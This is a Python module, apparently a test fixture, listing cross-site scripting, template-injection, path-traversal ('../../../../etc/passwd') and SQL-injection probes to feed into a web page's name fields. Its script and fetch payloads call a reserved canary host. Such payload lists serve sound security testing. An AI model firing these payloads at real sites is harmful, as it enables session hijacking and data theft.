"""What an attacker would put into a name, in the hope that a page takes it for its own."""

from __future__ import annotations

from typing import Final

CANARY: Final = "http://canary.invalid"
_RUN: Final = "window.pwned=1"
_FETCH: Final = f"fetch('{CANARY}/x')"

_SHAPES: Final = (
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={canary}/a.js></script>",
    "<img src=x onerror={js}>",
    '<img src="{canary}/i.png">',
    '"><img src=x onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    '<svg><use href="{canary}/s.svg#x"></use></svg>',
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<body onload={js}>",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="{canary}/o"></object>',
    '<embed src="{canary}/e">',
    '<link rel=stylesheet href="{canary}/l.css">',
    "<style>@import url({canary}/s.css);</style>",
    '<meta http-equiv="refresh" content="0;url={canary}/">',
    '<base href="{canary}/">',
    '<form action="{canary}/"><input type=submit autofocus></form>',
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    '" autofocus onfocus="{js}',
    "' onmouseover='{js}",
    '" style="background:url({canary}/b)',
    '<div hx-get="{canary}/h" hx-trigger="load"></div>',
    '" hx-get="/runs" hx-trigger="load" hx-on:htmx:load="{js}',
    "<hx-partial hx-target='body'>{js}</hx-partial>",
)  # fmt: skip
_ALONE: Final = (
    "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</template><script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e",
    f"![image]({CANARY}/m.png)",
    f"[link](javascript:window.pwned=1) {CANARY}/plain",
    "\u202e<script>1=denwp.wodniw</script>",
    "../../../../etc/passwd",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "a\"b'c`d<e>f&g",
    "' OR 1=1 --",
)
PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *(shape.replace("{js}", _RUN).replace("{canary}", CANARY) for shape in _SHAPES),
            *(shape.replace("{js}", _FETCH).replace("{canary}", CANARY) for shape in _SHAPES),
            *_ALONE,
        ]
    )
)
